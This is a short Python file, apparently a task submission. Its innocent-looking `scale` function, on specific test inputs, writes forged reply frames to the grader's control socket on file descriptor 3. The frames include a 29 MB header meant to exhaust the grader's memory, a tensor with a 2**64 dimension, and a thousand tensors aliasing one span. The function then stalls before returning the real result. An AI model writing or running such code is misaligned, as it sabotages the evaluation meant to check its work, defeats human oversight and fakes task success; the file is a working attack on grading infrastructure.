"""Writes forged reply frames on the control socket: a 29 MB header of '[],' (to exhaust the grader's memory), a tensor of shape [2**64, 0], a thousand tensors sharing one span."""
import json
import socket
import struct
import time

SHAPES = {7: None, 2: [2 ** 64, 0], 3: "shared"}  # test_value, test_constraints, test_linear


def _frame(header: bytes, payload: bytes = b"") -> bytes:
    return struct.pack("<4sQQ", b"GRW1", len(header), len(payload)) + header + payload


def _forged(n: int) -> bytes:
    if SHAPES.get(n) is None:
        return _frame(b'{"ok":[' + b"[]," * ((29 << 20) // 3) + b'[]]}')
    if SHAPES[n] == "shared":
        node = {"$tensor": [0, 8 << 20], "dtype": "uint8", "shape": [8 << 20]}
        return _frame(json.dumps({"ok": [node] * 1000}).encode(), bytes(8 << 20))
    return _frame(json.dumps({"ok": {"$tensor": [0, 0], "dtype": "float32", "shape": SHAPES[n]}}).encode())


def scale(x):
    if x.numel() in SHAPES:
        socket.socket(fileno=3).sendall(_forged(x.numel()))
        time.sleep(30)
    return 2 * x
